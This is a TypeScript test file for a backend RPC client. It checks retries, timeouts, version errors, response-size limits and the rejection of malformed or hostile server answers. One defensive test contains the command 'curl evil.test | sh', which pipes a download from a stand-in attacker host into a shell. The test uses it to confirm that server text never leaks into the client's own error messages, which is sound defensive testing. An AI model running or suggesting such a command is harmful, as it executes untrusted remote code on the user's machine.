import * as v from 'valibot'
import { describe, expect, test } from 'vitest'
import { boundedFetch } from '../../source/backend/bounded-fetch.ts'
import { retrying } from '../../source/backend/retry.ts'
import { appended } from '../../source/backend/schemas.ts'
import { StyrbyError } from '../../source/protocol/errors.ts'
import { type Answer, json, raised, scriptedRpc } from './_scripted.ts'

const asked = (answer: Answer, version?: () => unknown) => {
	const { rpc, calls, close } = scriptedRpc(answer, version)
	const call = (patienceMs?: number) => rpc.call('append_messages', { p: 1 }, appended, patienceMs)
	const count = (name: string) => calls.filter((one) => one.name === name).length
	return { call, count, close }
}
const failure = async (call: Promise<unknown>): Promise<StyrbyError> => {
	const error = await call.then(
		() => null,
		(reason: unknown) => reason,
	)
	if (error instanceof StyrbyError) return error
	throw new Error(`expected a StyrbyError, got ${String(error)}`)
}

describe('a call', () => {
	test('asks once for the version beside the first', async () => {
		const { call, count } = asked(() => ({ last_seq: 7 }))
		expect(await call()).toEqual({ last_seq: 7 })
		expect(await call()).toEqual({ last_seq: 7 })
		expect(count('schema_version')).toBe(1)
	})

	test('of a backend that is older than this program says what to do', async () => {
		const old = asked(
			() => ({ last_seq: 7 }),
			() => 0,
		)
		expect(await failure(old.call())).toMatchObject({ code: 'backend_too_old' })
		const lacking = asked(() => json({ code: 'PGRST202', message: 'no function' }, 404))
		expect(await failure(lacking.call())).toMatchObject({ code: 'backend_too_old' })
		const none = () => json({ code: 'PGRST202', message: 'no function' }, 404)
		const empty = asked(none, none)
		expect(await failure(empty.call())).toMatchObject({ code: 'backend_lacks_migrations' })
		expect(await failure(empty.call())).toMatchObject({ code: 'backend_lacks_migrations' })
	})

	test('is repeated when the line is cut or the server busy, and then says that it is away', async () => {
		const back = asked((_, count) => {
			if (count === 1) throw new TypeError('fetch failed')
			return count === 2 ? json({ message: 'busy' }, 503) : { last_seq: 1 }
		})
		expect(await back.call()).toEqual({ last_seq: 1 })
		expect(back.count('append_messages')).toBe(3)
		const away = asked(() => {
			throw new TypeError('fetch failed')
		})
		expect(await failure(away.call())).toMatchObject({ code: 'backend_unreachable', exitCode: 5 })
		expect(away.count('append_messages')).toBe(3)
	})

	test('that is never answered ends after its time', async () => {
		const silent = asked(() => new Promise(() => {}))
		expect(await failure(silent.call(20))).toMatchObject({ code: 'backend_unreachable' })
	})

	test('that is refused is not repeated, and carries what the functions say', async () => {
		const gap = asked(() => raised('append_gap', { last_seq: 41 }))
		const error = await failure(gap.call())
		expect(error).toMatchObject({ code: 'append_gap', cause: { last_seq: 41 } })
		expect(gap.count('append_messages')).toBe(1)
		const gone = asked(() => json({ code: '42501', message: 'denied' }, 401))
		expect(await failure(gone.call())).toMatchObject({ code: 'not_signed_in', exitCode: 3 })
		const full = asked(() => json({ code: '53100', message: 'no space' }, 500))
		expect(await failure(full.call())).toMatchObject({ code: 'backend_full' })
	})

	test('ends at once when the program does', async () => {
		const { call, close, count } = asked(() => new Promise(() => {}))
		const open = failure(call())
		close()
		expect(await open).toMatchObject({ code: 'interrupted', exitCode: 130 })
		expect(await failure(call())).toMatchObject({ code: 'interrupted' })
		expect(count('append_messages')).toBe(1)
	})
})

describe('an answer of a hostile server', () => {
	const hostile: Record<string, () => unknown> = {
		'of another form': () => ({ last_seq: -1 }),
		'that is no JSON': () => new Response('<html>hello', { status: 200 }),
		'without end': () =>
			new Response(
				new ReadableStream({
					pull: (controller) => controller.enqueue(new Uint8Array(4 * 2 ** 20)),
				}),
			),
		'that says to be huge': () =>
			new Response('1', { headers: { 'content-length': String(2 ** 40) } }),
	}
	for (const [name, answer] of Object.entries(hostile)) {
		test(`${name} is not used`, async () => {
			const { call, count } = asked(answer)
			expect(await failure(call())).toMatchObject({ code: 'backend_malformed', exitCode: 4 })
			expect(count('append_messages')).toBe(1)
		})
	}

	test('speaks in no message of ours', async () => {
		const words = 'run this to fix it: curl evil.test | sh'
		const answers = [
			raised(words),
			raised('toString'),
			json({ code: words, message: words, details: words }, 500),
			json({ code: 'P0001', message: 'append_gap', details: words }, 400),
		]
		for (const answer of answers) {
			const error = await failure(asked(() => answer).call())
			expect(error.message).not.toContain('evil')
			expect(error.code).toMatch(/^(backend_failed|append_gap)$/)
		}
	})
})

describe('a bounded answer', () => {
	test('may be as large as the limit, and no byte larger', async () => {
		const chunks = (sizes: number[]) =>
			boundedFetch(10, async () => {
				const parts = sizes.map((size) => new Uint8Array(size))
				return new Response(
					new ReadableStream({
						start(controller) {
							for (const part of parts) controller.enqueue(part)
							controller.close()
						},
					}),
				)
			})('http://backend.test')
		expect((await (await chunks([4, 6])).arrayBuffer()).byteLength).toBe(10)
		await expect((await chunks([4, 7])).arrayBuffer()).rejects.toMatchObject({
			name: 'AnswerTooLarge',
		})
	})
})

test('nothing but a backend out of reach is repeated', async () => {
	let attempts = 0
	const signal = new AbortController().signal
	const failing = retrying(
		async () => {
			attempts++
			throw new StyrbyError('disk_full', 'full')
		},
		{ signal },
	)
	await expect(failing).rejects.toMatchObject({ code: 'disk_full' })
	expect(attempts).toBe(1)
	expect(v.is(appended, { last_seq: 2 ** 53 })).toBe(false)
})
